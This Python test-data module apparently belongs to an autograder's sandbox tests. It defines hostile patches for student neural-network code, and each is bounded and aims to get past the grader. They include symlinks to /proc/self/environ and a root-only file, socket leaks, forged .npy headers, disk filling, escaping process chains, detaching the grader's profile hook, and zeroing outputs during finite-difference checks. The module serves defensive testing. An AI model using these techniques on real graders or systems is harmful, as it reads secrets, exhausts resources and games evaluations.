"""Hostile submissions against the sandbox itself, as data (see hostile.py for the form).

Each attack targets one unit of one combined submission, so a single grading tries
them all.  Where an attack would earn something if it worked, the unit's code is
*wrong unless the attack works* (e.g. "compute the weight gradient only if SysV
shared memory is reachable"), so a working attack would show up as points; every
attack is bounded (a few seconds, a few hundred MB at most) and cleans up after
itself.  ``attacks(...)`` takes what the test set up: a root-only canary file, the
ports and the unix path of listeners on 127.0.0.1.

TARGETS says, per attacked unit, the mechanism it attacks and which checks must fail
(a word in their titles; "*" for every check of the unit).
"""
import textwrap

from hostile import LINEAR_BACKWARD, RELU_BACKWARD, at_import

SHM_KEY = 0x4E4E3135
MARKER = "876.543"  # in the command lines of processes that try to outlive the grading

TANH_BACKWARD = "return D * (1 - Y * Y)"
LEAKY_BACKWARD = "return D * factor"
SIGMOID_FORWARD = "Y = np.exp(-np.logaddexp(0.0, -X))"
SOFTMAX_FORWARD = "E = np.exp(X - X.max(axis=1, keepdims=True))"
SOFTMAX_BACKWARD = "return Y * (D - (D * Y).sum(axis=1, keepdims=True))"
MSE_RETURN = "return float(np.mean(diff * diff)), 2 * diff / diff.size"
SEQUENTIAL_FORWARD = "        backwards = []\n        for layer in self.layers:"
MOMENTUM_STEP = "param.tensor -= self.lr * step"
ADAM_STEP = "param.tensor -= self.lr * m_hat / (np.sqrt(v_hat) + self.eps)"


def block(code: str, indent: str) -> str:
    """``code`` re-indented to ``indent`` (its first line follows the patched text)."""
    lines = textwrap.dedent(code).strip("\n").splitlines()
    return "\n".join([lines[0]] + [indent + line if line else "" for line in lines[1:]])


def _stderr_and_links(target: str, indent: str) -> str:
    """Replace the grader's stderr.txt by a link to ``target``, plant links to it (and
    a FIFO, and /dev/zero) under every result name, report every job done, and die."""
    return block(f"""
        import os as _os
        _top = _os.path.join(_os.environ["HOME"], _os.pardir)
        _out = _os.path.join(_top, "out")
        for _i, _k in enumerate(["import", "sandbox"] + [str(_i) for _i in range(80)]):
            for _name, _to in ((_k + ".json", {target!r}),
                               (_k + ".npys", ("/dev/zero", "/proc/self/environ")[_i % 2])):
                try:
                    _os.unlink(_os.path.join(_out, _name))
                except OSError:
                    pass
                try:
                    _os.symlink(_to, _os.path.join(_out, _name))
                except OSError:
                    pass
        try:
            _os.unlink(_os.path.join(_out, "1.npys"))
            _os.mkfifo(_os.path.join(_out, "1.npys"))
        except OSError:
            pass
        for _name in ("stderr.txt", "stdout.txt"):
            try:
                _os.unlink(_os.path.join(_top, _name))
                _os.symlink({target!r}, _os.path.join(_top, _name))
            except OSError:
                pass
        for _fd in range(3, 200):
            try:
                if _os.readlink(f"/proc/self/fd/{{_fd}}").endswith("done"):
                    _os.write(_fd, "".join(f"{{_i}}\\n" for _i in range(80)).encode())
            except OSError:
                pass
        _os._exit(3)
        """, indent)


def attacks(canary_file: str, udp_port: int, tcp_port: int, unix_path: str):
    """The combined submission's patches."""
    return [
        # Linear, IPC: the weight gradient is computed only if SysV shared memory works.
        ("layers.py", LINEAR_BACKWARD, f"""import ctypes as _c
            _libc = _c.CDLL(None, use_errno=True)
            _id = _libc.shmget({SHM_KEY}, 4096, 0o1666)
            if _id >= 0:
                _libc.shmat.restype = _c.c_void_p
                _at = _libc.shmat(_id, None, 0)
                if _at not in (None, 2**64 - 1):
                    _c.memmove(_at, b"nn100 shared", 12)
                self.weights.gradient += X.T @ D"""),
        # ReLU, sockets: the input gradient is right only if some datagram or stream
        # reached a listener on this machine.
        ("layers.py", RELU_BACKWARD, f"""import socket as _s
            _sent = False
            for _family, _kind, _address in (
                    (_s.AF_INET, _s.SOCK_DGRAM, ("127.0.0.1", {udp_port})),
                    (_s.AF_UNIX, _s.SOCK_DGRAM, {unix_path!r}),
                    (_s.AF_INET, _s.SOCK_STREAM, ("127.0.0.1", {tcp_port}))):
                try:
                    _sock = _s.socket(_family, _kind)
                    _sock.settimeout(0.5)
                    _sock.connect(_address)
                    _sock.send(b"LEAK" + np.asarray(D).tobytes()[:64])
                    _sock.close()
                    _sent = True
                except OSError:
                    pass
            if not _sent:
                return np.zeros_like(D)
            return D * mask"""),
        # Sigmoid, crafted outputs: from its first forward on, every array it returns is
        # encoded by a hostile encoder in place of the harness's (lying headers, object
        # dtype, a bool shape), every seventh job's arrays file is replaced by a hard link
        # to a 30 MB file, and every record lists 200 extra names.
        ("layers.py", "class Sigmoid(Layer):", """import json as _json
import sys as _sys
_SAVED = {"n": 0, "link": False}
_real_encode = _sys.modules["npy"].encode if "npy" in _sys.modules else None
_real_dump = _json.dump


def _evil_encode(arr):
    _SAVED["n"] += 1
    kind = _SAVED["n"] % 7
    if kind == 6:
        _SAVED["link"] = True
        return _real_encode(arr)
    header = ["{'descr': '<f8', 'fortran_order': False, 'shape': (True,), }",
              "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
              "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }",
              "{'descr': '<f8', 'fortran_order': 0, 'shape': (2,), }",
              "{'descr': '<f8', 'fortran_order': False, 'shape': (-1, -1), }",
              "{'descr': '<f8', 'shape': (2,), 'fortran_order': False, 'x': [[[[[[1]]]]]]}",
              ][kind].ljust(117) + "\\n"
    return (b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode()
            + bytes(16))


def _evil_dump(record, fp, *args, **kwargs):
    import os
    if isinstance(record, dict) and isinstance(record.get("arrays"), list):
        record["arrays"] = record["arrays"] + [[f"x{i}", 0] for i in range(200)]
    if _SAVED["link"] and getattr(fp, "name", "").endswith(".tmp"):
        _SAVED["link"] = False
        data = fp.name[:-len(".tmp")] + ".npys"
        big = os.path.join(os.path.dirname(data), "big.bin")
        if not os.path.exists(big):
            with open(big, "wb") as f:
                f.write(bytes(30 << 20))
        try:
            os.unlink(data)
        except OSError:
            pass
        os.link(big, data)
    return _real_dump(record, fp, *args, **kwargs)


class Sigmoid(Layer):"""),
        ("layers.py", SIGMOID_FORWARD, "_sys.modules['npy'].encode, _json.dump = "
                                       "_evil_encode, _evil_dump\n"
                                       "        " + SIGMOID_FORWARD),
        # Tanh, threads: backward by finite differences through forward, run in a worker
        # thread the caller's profile hook does not watch.
        ("layers.py", TANH_BACKWARD, """import threading as _t
            _found = {}

            def _work():
                _g = np.zeros_like(X, dtype=float)
                for _i in range(X.size if X.size <= 256 else 0):
                    _p, _m = X.copy(), X.copy()
                    _p.flat[_i] += 1e-6
                    _m.flat[_i] -= 1e-6
                    _g.flat[_i] = np.sum((self.forward(_p)[0] - self.forward(_m)[0]) * D) / 2e-6
                _found["g"] = _g
            try:
                _worker = _t.Thread(target=_work)
                _worker.start()
                _worker.join()
            except RuntimeError:
                pass
            return _found.get("g", np.zeros_like(D))"""),
        # LeakyReLU, the counter: detach the grader's profile hook, then finite
        # differences through forward.
        ("layers.py", LEAKY_BACKWARD, """import sys as _sys
            _sys.setprofile(None)
            _g = np.zeros_like(X, dtype=float)
            for _i in range(X.size if X.size <= 256 else 0):
                _p, _m = X.copy(), X.copy()
                _p.flat[_i] += 1e-6
                _m.flat[_i] -= 1e-6
                _g.flat[_i] = np.sum((self.forward(_p)[0] - self.forward(_m)[0]) * D) / 2e-6
            return _g"""),
        # Softmax, which check is this: a zero backward, and a forward that returns zeros
        # whenever it believes it is inside a finite-difference job (the harness's task
        # list, a frame of an "fd" job, or an input one step away from an earlier one).
        ("layers.py", SOFTMAX_FORWARD, """import sys as _sys
        _fd = False
        _task = getattr(_sys.modules.get("__main__"), "TASK", None) or {}
        _frame = _sys._getframe(1)
        while _frame is not None:
            _fd = _fd or "fd" in _frame.f_code.co_name
            _frame = _frame.f_back
        for _old in _SEEN[-400:]:
            if _old.shape == X.shape and np.count_nonzero(_old != X) == 1 \\
                    and np.max(np.abs(_old - X)) < 1e-4:
                _fd = True
        _SEEN.append(np.array(X, dtype=float))
        if _fd:
            return np.zeros_like(X), lambda D: np.zeros_like(D)
        E = np.exp(X - X.max(axis=1, keepdims=True))"""),
        ("layers.py", "class Softmax(Layer):", "_SEEN = []\n\n\nclass Softmax(Layer):"),
        ("layers.py", SOFTMAX_BACKWARD, "return np.zeros_like(D)"),
        # mse_loss and bce_with_logits_loss, reading files as root: links to the canary
        # file / the grader's environment under every name the grader reads, then die.
        ("losses.py", MSE_RETURN, _stderr_and_links("/proc/self/environ", "    ")
         + "\n    " + MSE_RETURN),
        ("losses.py", "def bce_with_logits_loss(Z, Yt):",
         "def bce_with_logits_loss(Z, Yt):\n    " + _stderr_and_links(canary_file, "    ")),
        # bce_loss, the disk: 1,500 nested folders, then files until the disk is full
        # (at most 360 MB), left behind for the grader to clean up.
        ("losses.py", "def bce_loss(P, Yt):", """def _fill_disk():
    import os
    home = os.environ["HOME"]
    here = os.getcwd()
    try:
        os.chdir(home)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        for i in range(12):
            with open(f"f{i}", "wb") as f:
                for _ in range(30):
                    f.write(bytes(1 << 20))
    except OSError:
        pass
    finally:
        os.chdir(here)


def bce_loss(P, Yt):
    _fill_disk()"""),
        # Sequential, processes: a chain of 40 that tries to outlive the grading (each
        # ends by itself within a minute).
        ("layers.py", SEQUENTIAL_FORWARD, f"""        import os, time
        if not _CHAIN:
            _CHAIN.append(1)
            for _ in range(40):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    try:
                        os.setsid()
                        os.execv("/bin/sleep", ["sleep", "{MARKER}"])
                    except OSError:
                        time.sleep(60)
                    os._exit(0)
""" + SEQUENTIAL_FORWARD),
        ("layers.py", "class Sequential(Layer):", "_CHAIN = []\n\n\nclass Sequential(Layer):"),
        # MomentumOptimizer, a process beside the checks: a helper forked while the
        # package is imported (it ends by itself within a minute); the step is taken
        # only while the helper is alive.
        ("optimizers.py", "class MomentumOptimizer:", """import os as _os
import time as _time
try:
    _HELPER = _os.fork()
except OSError:
    _HELPER = None
if _HELPER == 0:
    for _ in range(600):
        _time.sleep(0.1)
    _os._exit(0)


class MomentumOptimizer:"""),
        ("optimizers.py", MOMENTUM_STEP,
         """if _HELPER and _os.waitpid(_HELPER, _os.WNOHANG) == (0, 0):
            """ + MOMENTUM_STEP),
        # AdamOptimizer, other jobs' inputs: the step is taken in the child's first job,
        # and later only when the next job can already be read from the jobs FIFO.
        ("optimizers.py", "class AdamOptimizer:", """import select as _select
import sys as _sys
_FIRST = {}


def _first_job_or_next_in_sight():
    inputs = _sys.modules["jobs"].INPUTS
    if _FIRST.setdefault("inputs", inputs) is inputs:
        return True
    try:
        return bool(_select.select([_sys.modules["__main__"].CHANNEL["jobs"]], [], [], 0)[0])
    except (OSError, ValueError, KeyError):
        return False


class AdamOptimizer:"""),
        ("optimizers.py", ADAM_STEP,
         """if _first_job_or_next_in_sight():
            """ + ADAM_STEP),
    ]


# unit -> (mechanism, words: checks whose title has one of them must fail; "*": all)
TARGETS = {
    "Linear": ("SysV shared memory between children", ["weight gradient"]),
    "ReLU": ("UDP, unix and TCP sockets to local listeners", ["input gradient"]),
    "Sigmoid": ("crafted .npy headers, hard links, extra names", ["*"]),
    "Tanh": ("finite differences in a worker thread", ["gradient"]),
    "LeakyReLU": ("the call counter detached", ["gradient"]),
    "Softmax": ("a zero forward in finite-difference jobs", ["finite differences"]),
    "mse_loss": ("links to the grader's environment", []),
    "bce_with_logits_loss": ("links to a root-only file", []),
    "bce_loss": ("a disk filled, 1,500 nested folders", []),
    "Sequential": ("40 processes that try to outlive the grading", []),
    "MomentumOptimizer": ("a process forked at import, alive beside the checks", ["*"]),
    "AdamOptimizer": ("the next job's inputs read ahead",
                      ["several steps", "state is kept", "custom beta", "weight decay",
                       "float32"]),
}

# Every check of a stalling submission waits 1 s per forward: its grading must end
# within the whole-submission budget, the units it did not reach marked so.
STALL = [at_import("""import time as _time
from . import layers as _layers
for _cls in (_layers.Linear, _layers.ReLU, _layers.Sigmoid, _layers.Tanh,
             _layers.LeakyReLU, _layers.Softmax):
    def _slow(self, X, _forward=_cls.forward):
        _time.sleep(1.0)
        return _forward(self, X)
    _cls.forward = _slow
""")]

# An import error whose message is a megabyte long: the harness's own describe() is
# replaced first, since it would cut the message short.
IMPORT_FLOOD = [at_import("""import sys as _sys
_main = _sys.modules.get("__main__")
if hasattr(_main, "describe"):
    _main.describe = lambda exc: str(exc)
raise ImportError('nn100 cannot start ' + 'x' * 1_000_000)""")]



# Issue 20 item 3, "nothing beside a check": a MomentumOptimizer whose import forks a
# helper that writes the time into the child's home every 10 ms (for at most a minute);
# the step is taken only while that file changes, i.e. while a process lives beside the
# checks and writes.  Graded alone (test_sandbox_attacks), once per wall.
BESIDE = [
    ("optimizers.py", "class MomentumOptimizer:", """import os as _os
import time as _time
_BESIDE = _os.path.join(_os.environ.get("HOME", "."), "beside.txt")
try:
    _HELPER = _os.fork()
except OSError:
    _HELPER = None
if _HELPER == 0:
    for _ in range(6000):
        try:
            with open(_BESIDE, "w") as _f:
                _f.write(str(_time.time()))
        except OSError:
            pass
        _time.sleep(0.01)
    _os._exit(0)


def _beside() -> bool:
    # whether the helper wrote the file within the last 50 ms (it is alive)
    try:
        with open(_BESIDE) as _f:
            before = _f.read()
        _time.sleep(0.05)
        with open(_BESIDE) as _f:
            return _f.read() != before
    except OSError:
        return False


class MomentumOptimizer:"""),
    ("optimizers.py", MOMENTUM_STEP, "if _beside():\n            " + MOMENTUM_STEP),
]
